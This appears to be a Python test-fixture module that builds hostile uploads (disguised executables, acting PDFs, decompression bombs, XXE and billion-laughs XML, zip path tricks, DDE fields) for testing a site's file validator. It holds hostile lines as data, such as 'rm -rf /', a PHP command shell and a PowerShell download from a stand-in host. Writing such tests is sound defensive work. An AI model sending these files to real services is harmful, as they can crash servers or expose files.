"""Files that nobody should be able to leave on the site, made here so that none of them lies in the repository.

Families of attacks, each in many variants; every case is named, and made only when it is asked for.
"""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache, partial
from random import Random

import docx
import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
ENDINGS = (".pdf", ".jpg", ".png", ".docx", ".xlsx")
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@dataclass(frozen=True)
class Case:
    """One file as somebody sends it."""

    family: str
    what: str
    name: str
    make: Callable[[], bytes]
    is_bomb: bool = False
    """Whether looking at it takes the memory or the time of a whole machine, where nothing bounds them."""

    def __str__(self):
        return f"{self.family}: {self.what}, {self.name!r}"


# Honest files, to be spoilt ------------------------------------------------------------------------------------------


def grain(length):
    """Bytes that cannot be packed, the same each time."""
    return Random(length).randbytes(length)  # noqa: S311 - no secret


def a_pdf(change=lambda _: None, **saving):
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        data = io.BytesIO()
        made.save(data, **saving)
    return data.getvalue()


def a_picture(kind, size=(60, 40), **saving):
    data = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(data, kind, **saving)
    return data.getvalue()


@cache
def an_office_file(ending):
    data = io.BytesIO()
    if ending == ".docx":
        text = docx.Document()
        text.add_paragraph("Báo cáo kết quả")
        text.save(data)
    else:
        openpyxl.Workbook().save(data)
    return data.getvalue()


def honest(ending):
    match ending:
        case ".pdf":
            return a_pdf()
        case ".jpg":
            return a_picture("JPEG")
        case ".png":
            return a_picture("PNG")
    return an_office_file(ending)


def parts_of(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts, method=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that occur twice
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            archive.writestr(name, data)
    return file.getvalue()


def _followed(make, *tails):
    return lambda: b"".join([make(), *tails])


def _cut(make, share):
    def cut():
        data = make()
        return data[: int(len(data) * share)]

    return cut


# Something else under the name of an honest file ---------------------------------------------------------------------

OTHERS = {
    "a Windows program": b"MZ\x90\0" + bytes(60) + b"PE\0\0",
    "a Linux program": b"\x7fELF\x02\x01\x01" + bytes(60),
    "a Java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40),
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "a batch file": b"@echo off\r\ndel *.*\r\n",
    "PowerShell": b"Invoke-WebRequest http://a.example/x -OutFile x.exe",
    "a web page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "JavaScript": b"fetch('/nam/1/')",
    "PHP": b"<?php system($_GET['a']); ?>",
    "an HTML application": b"<hta:application/><script language=vbscript>x</script>",
    "a shortcut": bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(40),
    "an old Word or Excel file": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600),
    "RTF": b"{\\rtf1{\\object\\objocx}}",
    "a mail": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>x</script>",
    "PostScript": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file",
    "GIF": b"GIF89a\x01\0\x01\0\0\0\0;",
    "BMP": b"BM" + bytes(60),
    "TIFF": b"II*\0" + bytes(60),
    "WebP": b"RIFF\x10\0\0\0WEBPVP8 " + bytes(20),
    "HEIC": b"\0\0\0\x18ftypheic" + bytes(30),
    "a film": b"\0\0\0\x18ftypmp42" + bytes(30),
    "Flash": b"CWS\x0a" + bytes(40),
    "an archive": zipped({"a.exe": b"MZ"}),
    "RAR": b"Rar!\x1a\x07\x01\0" + bytes(30),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30),
    "gzip": b"\x1f\x8b\x08\0" + bytes(30),
    "XML that laughs": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>',
    "text": "Báo cáo".encode(),
    "nothing": b"",
    "nulls": bytes(500),
    "the scanners' test": EICAR,
}
STRANGE_NAMES = (
    "a.exe", "a.pdf.exe", "a.html", "a.htm", "a.svg", "a.js", "a.php", "a.docm", "a.xlsm", "a.doc", "a.xls", "a.zip",
    "a.rar", "a.7z", "a.iso", "a.lnk", "a.bat", "a.heic", "a.txt", "a.eml", "a.pptx", "a", "pdf", ".", "",
    "a.pdf\0.exe", "bản\u202efdp.exe", "a.pdf\r\nX: 1", "a.pdf::$DATA", "a.pdf/", "a.p\u200bdf.scr", "a．pdf",
)  # fmt: skip


def disguised():
    for what, data in OTHERS.items():
        for ending in ENDINGS:
            yield Case("disguised", what, f"a{ending}", partial(bytes, data))
    for inside in ENDINGS:
        for ending in ENDINGS:
            if inside != ending:
                yield Case("disguised", f"an honest {inside}", f"a{ending}", partial(honest, inside))
    for name in STRANGE_NAMES:
        yield Case("disguised", "an honest PDF", name, a_pdf)


# PDF -----------------------------------------------------------------------------------------------------------------

ACTIONS = {
    "JavaScript": lambda: Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
    "Launch": lambda: Dictionary(S=Name.Launch, F="cmd.exe"),
    "ImportData": lambda: Dictionary(S=Name.ImportData, F="a.fdf"),
    "SubmitForm": lambda: Dictionary(S=Name.SubmitForm, F="http://a.example"),
    "GoToE": lambda: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="a.pdf")),
    "Rendition": lambda: Dictionary(S=Name.Rendition, JS=pikepdf.String("x")),
    "RichMediaExecute": lambda: Dictionary(S=Name.RichMediaExecute),
}
PLACES: dict[str, Callable[[pikepdf.Pdf, Dictionary], object]] = {
    "when opened": lambda pdf, act: pdf.Root.__setitem__("/OpenAction", act),
    "after another": lambda pdf, act: pdf.Root.__setitem__("/OpenAction", Dictionary(S=Name.GoTo, Next=Array([act]))),
    "when printed": lambda pdf, act: pdf.Root.__setitem__("/AA", Dictionary(WP=act)),
    "on a page": lambda pdf, act: pdf.pages[0].__setitem__("/AA", Dictionary(O=act)),
    "on a link": lambda pdf, act: pdf.pages[0].__setitem__("/Annots", Array([Dictionary(Subtype=Name.Link, A=act)])),
    "in the outline": lambda pdf, act: pdf.Root.__setitem__(
        "/Outlines", Dictionary(First=pdf.make_indirect(Dictionary(A=act)))
    ),
    "on a field": lambda pdf, act: pdf.Root.__setitem__(
        "/AcroForm", Dictionary(Fields=Array([pdf.make_indirect(Dictionary(FT=Name.Tx, AA=Dictionary(K=act)))]))
    ),
}


def active_pdfs():
    for what, action in ACTIONS.items():
        for where, put in PLACES.items():
            yield Case("PDF that acts", f"{what} {where}", "a.pdf", partial(_acting, put, action))
    for where in ("when opened", "on a page", "when printed", "on a link"):
        yield Case("PDF that acts", f"in an object stream {where}", "a.pdf", partial(_hidden_script, PLACES[where]))
    for kind in ("/URI", "/GoToR"):
        for where in ("when opened", "on a page"):
            yield Case(
                "PDF that acts", f"{kind} {where}", "a.pdf", partial(_acting, PLACES[where], partial(_away, kind))
            )
    roots: dict[str, Callable[[pikepdf.Pdf], object]] = {
        "named scripts": lambda _: Dictionary(JavaScript=Dictionary(Names=Array(["a", ACTIONS["JavaScript"]()]))),
        "a form of XFA": lambda _: Dictionary(XFA=Array([])),
        "a stream that acts": lambda pdf: Stream(pdf, b"", S=Name.JavaScript),
        "a film": lambda _: Dictionary(RichMediaContent=Dictionary()),
    }
    for what, made in roots.items():
        yield Case("PDF that acts", what, "a.pdf", partial(_rooted, made))
    yield Case("PDF that acts", "spelt in hexadecimal", "a.pdf", lambda: _scripted(b"/J#61vaScript", b"/J#53"))
    yield Case("PDF that acts", "in an earlier revision", "a.pdf", lambda: _orphan_script())


def _acting(put, action, **saving):
    return a_pdf(lambda pdf: put(pdf, action()), **saving)


def _away(kind):
    return Dictionary(S=Name(kind), URI="http://a.example", F="\\\\a.example\\b")


def _rooted(made):
    return a_pdf(lambda pdf: pdf.Root.__setitem__("/AcroForm", made(pdf)))


def _hidden_script(put):
    return _acting(put, ACTIONS["JavaScript"], object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _scripted(kind, key):
    plain = a_pdf(lambda pdf: PLACES["when opened"](pdf, ACTIONS["JavaScript"]()))
    return plain.replace(b"/JavaScript", kind).replace(b"/JS", key)


def _orphan_script():
    return a_pdf().replace(b"\nxref", b"\n99 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj\nxref", 1)


def odd_pdfs():
    def case(what, make, *, is_bomb=False):
        return Case("PDF out of order", what, "a.pdf", make, is_bomb)

    for revision in (2, 3, 4, 6):
        for user in ("", "b"):
            lock = pikepdf.Encryption(owner="a", user=user, R=revision, aes=revision > 3, metadata=revision > 3)
            yield case(f"locked, R{revision}, password {user!r}", partial(a_pdf, encryption=lock))
    for what, tail in TAILS.items():
        yield case(f"with {what} at its end", _followed(a_pdf, tail))
    yield case("an archive too", lambda: _pdf_and_zip())
    yield case("with a byte before it", lambda: b"\n" + a_pdf())
    yield case("with a page before it", lambda: OTHERS["a web page"] + a_pdf())
    yield case("cut off", lambda: a_pdf()[:-40])
    yield case("cut in half", lambda: (lambda data: data[: len(data) // 2])(a_pdf()))
    yield case("garbage", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF")
    yield case("without pages", lambda: a_pdf(lambda pdf: pdf.pages.__delitem__(0)))
    yield case(
        "with no root", lambda: b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1>>\nstartxref\n9\n%%EOF"
    )
    yield case("more than 20 MB", lambda: a_pdf() + bytes(20 * 1024 * 1024) + b"%%EOF")
    yield case("with the scanners' test attached", lambda: a_pdf(_attach(EICAR)))
    yield case("with the scanners' test as a remark", lambda: a_pdf().replace(b"%%EOF", b"%" + EICAR + b"\n%%EOF"))
    yield case("objects that swell to 300 MB", lambda: _swelling_objects(300_000_000), is_bomb=True)
    yield case("objects that swell to 1 GB", lambda: _swelling_objects(1_000_000_000), is_bomb=True)
    yield case("an attachment that swells", lambda: _swelling_attachment(), is_bomb=True)
    yield case("800,000 objects", lambda: _many_objects(800_000), is_bomb=True)
    yield case("a page tree in a ring", lambda: _ring())
    yield case("an array of arrays of arrays", lambda: _deep(), is_bomb=True)


def _attach(data):
    return lambda pdf: pdf.attachments.__setitem__("a.txt", data)


def _pdf_and_zip():
    """A PDF whose last bytes are the remark of an archive."""
    plain, archive = a_pdf(), zipped({"a.exe": b"MZ"})
    end = archive.rfind(b"PK\x05\x06")
    remark = b"\n%%EOF"
    start = int.from_bytes(archive[end + 16 : end + 20], "little") + len(plain)
    return plain + archive[: end + 16] + struct.pack("<IH", start, len(remark)) + remark


def _objects_to_pdf(objects, compressed=None):
    """With a stream of cross references; `compressed` tells one object that lies in another."""
    data, places = b"%PDF-1.5\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj " % number + each + b" endobj\n"
    own = len(objects) + 1
    rows = [(0, 0, 0), *((1, place, 0) for place in places), (1, len(data), 0)]
    if compressed:
        rows += [(0, 0, 0)] * (compressed[0] - len(rows)) + [(2, compressed[1], 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Length %d>>" % (len(rows), len(table))
    return (
        data
        + b"%d 0 obj " % own
        + head
        + b"stream\n"
        + table
        + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % (len(data))
    )


_BEGINNING = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def _swollen(start, size):
    packer = zlib.compressobj(9)
    pieces = [packer.compress(start)]
    pieces += [packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)]
    return b"".join([*pieces, packer.flush()])


def _swelling_objects(size):
    packed = _swollen(b"10 0 <<>>", size)
    head = b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>" % len(packed)
    return _objects_to_pdf([*_BEGINNING, _PAGE, head + b"stream\n" + packed + b"\nendstream"], compressed=(10, 4))


def _swelling_attachment():
    packed = _swollen(b"", 1_000_000_000)
    head = b"<</Type/EmbeddedFile/Filter/FlateDecode/Length %d>>" % len(packed)
    return _objects_to_pdf([*_BEGINNING, _PAGE, head + b"stream\n" + packed + b"\nendstream"])


def _many_objects(count):
    pieces = [b"%PDF-1.4\n", *(b"%d 0 obj[0]endobj\n" % number for number in range(4, count))]
    pieces += [b"%d 0 obj%sendobj\n" % (n, each) for n, each in enumerate([*_BEGINNING, _PAGE], start=1)]
    return b"".join([*pieces, b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF"])


def _ring():
    return _objects_to_pdf([_BEGINNING[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])


def _deep():
    return _objects_to_pdf(
        [*_BEGINNING, b"<</Type/Page/Parent 2 0 R/MediaBox " + b"[" * 400_000 + b"]" * 400_000 + b">>"]
    )


# Pictures ------------------------------------------------------------------------------------------------------------

TAILS = {
    "an archive": zipped({"a.exe": b"MZ"}),
    "a web page": OTHERS["a web page"],
    "PHP": OTHERS["PHP"],
    "a program": OTHERS["a Windows program"],
    "the scanners' test": EICAR,
}


def pictures():
    for kind, ending in {"JPEG": ".jpg", "PNG": ".png"}.items():

        def case(what, make, ending=ending, *, is_bomb=False):
            return Case("picture", what, f"a{ending}", make, is_bomb)

        plain = partial(a_picture, kind)
        for what, tail in TAILS.items():
            yield case(f"with {what} at its end", _followed(plain, tail))
            yield case(f"with {what} before a second end", _followed(plain, tail, plain()[-12:]))
            remarked = _jpeg_with if kind == "JPEG" else _png_with
            if what != "a program":
                yield case(f"with {what} as a remark", partial(remarked, tail))
        yield case("a PDF too", _followed(plain, a_pdf()))
        for share in (0.1, 0.5, 0.9):
            yield case(f"cut at {share:.0%}", _cut(plain, share))
        yield case("its first bytes only", _cut(plain, 0.01))
        yield case("more than 20 MB", _followed(plain, bytes(20 * 1024 * 1024)))
    for side in (30_000, 65_535, 2_000_000_000):
        yield Case("picture", f"says it is {side} wide and high", "a.png", partial(_png, side, side, b""))
    yield Case(
        "picture", "30,000 by 30,000 in earnest", "a.png", lambda: _png(30_000, 30_000, _rows(30_000)), is_bomb=True
    )
    yield Case(
        "picture",
        "10,400 by 10,400 in four colours",
        "a.png",
        lambda: _png(10_400, 10_400, _rows(10_400, 4), 6),
        is_bomb=True,
    )
    yield Case("picture", "no width", "a.png", lambda: _png(0, 10, b""))
    yield Case("picture", "no picture data", "a.png", lambda: _png(10, 10, b""))
    yield Case("picture", "a wrong sum", "a.png", lambda: _png(1, 1, zlib.compress(b"\0\0"), wrong=True))
    yield Case(
        "picture", "a remark that swells", "a.png", lambda: _png_with(_swollen(b"", 900_000_000), b"zTXt"), is_bomb=True
    )
    yield Case("picture", "65,500 by 65,500", "a.jpg", lambda: _sized_jpeg(65_500, 65_500))
    yield Case("picture", "no size", "a.jpg", lambda: _sized_jpeg(0, 0))
    yield Case(
        "picture",
        "a beginning and an end",
        "a.jpg",
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9",
    )
    yield Case(
        "picture",
        "a second picture that hides an archive",
        "a.jpg",
        lambda: a_picture("JPEG") + a_picture("JPEG") + TAILS["an archive"],
    )
    yield Case("picture", "PHP before a telephone's mark", "a.jpg", lambda: a_picture("JPEG") + TAILS["PHP"] + b"SEFT")


def _png(width, height, packed, colour=0, *, wrong=False):
    head = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + (_chunk(b"IDAT", packed) if packed else b"")
    return (data[:-1] + b"\0\0" if wrong else data) + _chunk(b"IEND", b"")


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _rows(side, bytes_a_pixel=1):
    packer = zlib.compressobj(9)
    row = bytes(1 + side * bytes_a_pixel)
    return b"".join([*(packer.compress(row) for _ in range(side)), packer.flush()])


def _png_with(remark, kind=b"tEXt"):
    plain = a_picture("PNG")
    return plain[:33] + _chunk(kind, b"Comment\0" + (b"\0" if kind == b"zTXt" else b"") + remark) + plain[33:]


def _jpeg_with(remark):
    return a_picture("JPEG", comment=remark)


def _sized_jpeg(width, height):
    plain = bytearray(a_picture("JPEG"))
    at = plain.index(b"\xff\xc0") + 5
    plain[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(plain)


# Word and Excel ------------------------------------------------------------------------------------------------------

LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
LAUGHS_IN_UTF_16 = LAUGHS.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
LATE_LAUGHS = LAUGHS.replace(b"<!DOCTYPE", b"<!--" + bytes(range(97, 123)) * 9000 + b"--><!DOCTYPE")
FETCHES = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://a.example/a.dtd"><a/>'
READS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ADDED_PARTS = {
    "macros": ("{0}/vbaProject.bin", b"x"),
    "macros' data": ("{0}/vbaData.xml", b"<a/>"),
    "ActiveX": ("{0}/activeX/activeX1.xml", b"<a/>"),
    "links to other files": ("{0}/externalLinks/externalLink1.xml", b"<a/>"),
    "an OLE object": ("{0}/embeddings/oleObject1.bin", b"x"),
    "an embedded program": ("{0}/embeddings/a.exe", b"x"),
    "an embedded Word file": ("{0}/embeddings/a.docx", b"x"),
    "an embedded macro file": ("{0}/embeddings/a.xlsm", b"x"),
    "an archive inside": ("{0}/embeddings/a.zip", zipped({"b.zip": zipped({"c": bytes(100_000)})})),
    "macros of Excel 4": ("{0}/macrosheets/sheet1.xml", b"<a/>"),
    "connections": ("{0}/connections.xml", b"<a/>") ,
    "a web add-in": ("{0}/webextensions/taskpanes.xml", b"<a/>"),
    "toolbars": ("{0}/attachedToolbars.bin", b"x"),
    "a web page": ("{0}/afchunk.html", OTHERS["a web page"]),
    "a mail": ("{0}/afchunk.mht", OTHERS["a mail"]),
    "a script": ("{0}/media/a.js", b"x"),
    "a program as a picture": ("{0}/media/image9.png", OTHERS["a Windows program"]),
    "an OLE object as a picture": ("{0}/media/image9.emf", OTHERS["an old Word or Excel file"]),
    "an OLE object as a printer": ("{0}/printerSettings/printerSettings1.bin", OTHERS["an old Word or Excel file"]),
    "the scanners' test as a text": ("customXml/item9.xml", b"<a>" + EICAR + b"</a>"),
    "the scanners' test as a picture": ("{0}/media/image9.png", EICAR),
    "the scanners' test far inside": ("{0}/media/image9.png", bytes(65_500) + EICAR),
    "laughing XML": ("{0}/a.xml", LAUGHS),
    "laughing XML in UTF-16": ("{0}/a.xml", LAUGHS_IN_UTF_16),
    "laughing XML behind a remark": ("{0}/a.xml", LATE_LAUGHS),
    "laughing XML under another name": ("{0}/media/image9.png", LAUGHS),
    "XML that fetches": ("{0}/a.xml", FETCHES),
    "XML that reads files": ("{0}/a.xml", READS),
    "broken XML": ("{0}/a.xml", b"<a><b></a>"),
    "XML in no language": ("{0}/a.xml", b'<?xml version="1.0" encoding="UyF-8"?><a/>'),
    "two roots": ("{0}/a.xml", b"<a/><a/>"),
    "an entity that nobody declared": ("{0}/a.xml", b"<a>&b;</a>"),
    "no XML": ("{0}/a.xml", bytes(100)),
    "a way up": ("../a.xml", b"<a/>"),
    "a way down and up": ("{0}/../../a.xml", b"<a/>"),
    "a way up with other strokes": ("{0}\\..\\..\\a.xml", b"<a/>"),
    "an absolute name": ("/etc/a.xml", b"<a/>"),
    "a disc's name": ("C:/a.xml", b"<a/>"),
    "a name with a line end": ("{0}/a\n.xml", b"<a/>"),
    "a part that swells": ("{0}/a.xml", b"<a>" + b" " * 30_000_000 + b"</a>"),
    "a picture that swells": ("{0}/media/image9.bmp", bytes(30_000_000)),
}  # fmt: skip
OUTSIDE = {
    "a template from the web": ("attachedTemplate", "http://a.example/a.dotm"),
    "a template from a share": ("attachedTemplate", "\\\\a.example\\a.dotm"),
    "a template by file://": ("attachedTemplate", "file://a.example/a.dotm"),
    "an object from the web": ("oleObject", "mhtml:http://a.example/a!x-usc:http://a.example/a"),
    "a picture from the web": ("image", "http://a.example/a.png"),
    "a picture from a share": ("image", "file://a.example/a.png"),
    "a frame": ("frame", "http://a.example"),
    "a part of the text": ("subDocument", "file://a.example/a.docx"),
    "other figures": ("externalLinkPath", "http://a.example/a.xlsx"),
}
FIELDS = {
    "a field that runs": "<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"'/>",
    "a field that runs, in a run": "<w:r><w:instrText>DDE cmd.exe</w:instrText></w:r>",
    "a field that runs, in pieces": "<w:r><w:instrText>DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>",
    "a field that runs, in small letters": "<w:r><w:instrText> ddeauto excel</w:instrText></w:r>",
}


def office_files():
    for ending in (".docx", ".xlsx"):

        def case(what, make, ending=ending, *, is_bomb=False):
            return Case("Word or Excel", what, f"a{ending}", make, is_bomb)

        for what, (name, data) in ADDED_PARTS.items():
            if what == "connections" and ending == ".docx":
                continue
            yield case(f"with {what}", partial(_with_part, ending, name, data))
        for what, (kind, target) in OUTSIDE.items():
            yield case(f"with {what}", partial(_with_relation, ending, kind, target))
        for what, change in _DIRECTORIES.items():
            yield case(what, partial(change, an_office_file(ending)))
        for what, declared in _TYPES.items():
            yield case(what, partial(_with_type, ending, declared))
        yield case("10⁵ parts", partial(_with_parts, ending, 100_000), is_bomb=True)
        yield case("2,000 parts", partial(_with_parts, ending, 2_000))
        yield case("more than 20 MB", _followed(partial(an_office_file, ending), bytes(20 * 1024 * 1024)))
        yield case("an archive in an archive", partial(zipped, {"a" + ending: an_office_file(ending)}))
        yield case("the scanners' test in an archive", lambda: zipped({"eicar.com": EICAR}))
        yield case("9 million elements", partial(_with_crowd, ending), is_bomb=True)
        yield case("depth without end", partial(_with_part, ending, "{0}/a.xml", b"<a>" * 900_000), is_bomb=True)
    for what, code in FIELDS.items():
        yield Case("Word or Excel", f"with {what}", "a.docx", partial(_with_field, code))
    yield Case(
        "Word or Excel",
        "a sheet of 199 MB",
        "a.xlsx",
        lambda: _with_part(".xlsx", "xl/a.xml", b"<c/>" * 50_000_000),
        is_bomb=True,
    )


def _with_part(ending, name, data):
    place = name.format("word" if ending == ".docx" else "xl")
    return zipped([*parts_of(an_office_file(ending)).items(), (place, data)])


def _with_crowd(ending):
    """As many elements as fit, named at random so that they do not look like a bomb."""
    letters = grain(9_000_000).translate(bytes(97 + each % 26 for each in range(256)))
    crowd = b"<a><" + b"/><".join(letters[at : at + 1] for at in range(len(letters))) + b"/></a>"
    return _with_part(ending, "{0}/a.xml", crowd)


def _with_parts(ending, count):
    more = [(f"customXml/item{number}.xml", b"<a/>") for number in range(10, count)]
    return zipped([*parts_of(an_office_file(ending)).items(), *more])


def _with_relation(ending, kind, target):
    main = "word/_rels/document.xml.rels" if ending == ".docx" else "xl/_rels/workbook.xml.rels"
    parts = parts_of(an_office_file(ending))
    line = f'<Relationship Id="rX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    parts[main] = parts[main].replace(b"</Relationships>", line.encode() + b"</Relationships>")
    return zipped(parts)


def _with_field(code):
    parts = parts_of(an_office_file(".docx"))
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr", f"<w:p>{code}</w:p><w:sectPr".encode(), 1
    )
    return zipped(parts)


def _with_type(ending, kind):
    """With another type declared of its main part; None for no declaration at all."""
    parts = parts_of(an_office_file(ending))
    if kind is None:
        del parts["[Content_Types].xml"]
        return zipped(parts)
    main = WORD_MAIN if ending == ".docx" else WORD_MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(main.encode(), kind.encode())
    return zipped(parts)


_TYPES = {
    "undeclared": None,
    "a text with macros, renamed": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "a template, renamed": WORD_MAIN.replace("document.main", "template.main"),
    "a workbook with macros, renamed": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "a show, renamed": WORD_MAIN.replace("wordprocessingml.document", "presentationml.presentation"),
    "of no known type": "text/xml",
    "macros under another name": "application/vnd.ms-office.vbaProject",
}


def _again(data):
    parts = parts_of(data)
    return zipped([*parts.items(), next(iter(parts.items()))])


def _again_in_capitals(data):
    parts = parts_of(data)
    name, content = next((name, content) for name, content in parts.items() if name.endswith(".xml"))
    return zipped([*parts.items(), (name.upper(), content)])


def _symlink(data):
    entry = zipfile.ZipInfo("customXml/item9.xml")
    entry.external_attr = 0o120777 << 16
    file = io.BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(entry, "/etc/passwd")
    return file.getvalue()


def _patched(data, offset, value):
    """With a field of the first entry in the directory changed."""
    at = data.index(b"PK\x01\x02") + offset
    return data[:at] + value + data[at + len(value) :]


def _zip64_lie(data):
    """The directory says that an entry's sizes stand elsewhere, where they are said to be enormous."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts_of(data).items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.extra = struct.pack("<HHQ", 1, 8, 2**40)
            archive.writestr(entry, content)
    return _patched(file.getvalue(), 24, b"\xff\xff\xff\xff")


def _overlapping(data):
    """Every entry of the directory points at the first one's bytes."""
    first, second, *_ = _all(data, b"PK\x01\x02")
    spoilt = bytearray(data)
    spoilt[second + 42 : second + 46] = spoilt[first + 42 : first + 46]
    return bytes(spoilt)


def _all(data, what):
    at = data.find(what)
    while at >= 0:
        yield at
        at = data.find(what, at + 1)


_DIRECTORIES: dict[str, Callable[[bytes], bytes]] = {
    "a part twice": _again,
    "a part twice, in capitals": _again_in_capitals,
    "a link to a file of the server": _symlink,
    "a part with a password": lambda data: _patched(data, 8, b"\x01\0"),
    "a part that says it is small": lambda data: _patched(data, 24, b"\x05\0\0\0"),
    "a part that says it is large": lambda data: _patched(data, 24, b"\xff\xff\xff\0"),
    "a part that says it is packed larger": lambda data: _patched(data, 20, b"\xff\xff\xff\0"),
    "a part with a wrong sum": lambda data: _patched(data, 16, b"\0\0\0\0"),
    "a part packed in no known way": lambda data: _patched(data, 10, b"\x63\0"),
    "a part that begins beyond the end": lambda data: _patched(data, 42, b"\xff\xff\xff\0"),
    "a lying zip64": _zip64_lie,
    "parts upon one another": _overlapping,
    "packed by bzip2": lambda data: zipped(parts_of(data), zipfile.ZIP_BZIP2),
    "packed by LZMA": lambda data: zipped(parts_of(data), zipfile.ZIP_LZMA),
    "a program before it": lambda data: OTHERS["a Windows program"] + data,
    "a web page behind it": lambda data: data + OTHERS["a web page"],
    "a remark": lambda data: data[:-2] + b"\x05\0hello",
    "cut off": lambda data: data[:-30],
    "cut in half": lambda data: data[: len(data) // 2],
    "its directory alone": lambda data: data[data.index(b"PK\x01\x02") :],
    "an empty archive": lambda _: zipped({}),
    "one byte changed in its packed words": lambda data: data[:80] + bytes([data[80] ^ 255]) + data[81:],
}


def hostile_uploads():
    """All of them."""
    yield from disguised()
    yield from active_pdfs()
    yield from odd_pdfs()
    yield from pictures()
    yield from office_files()
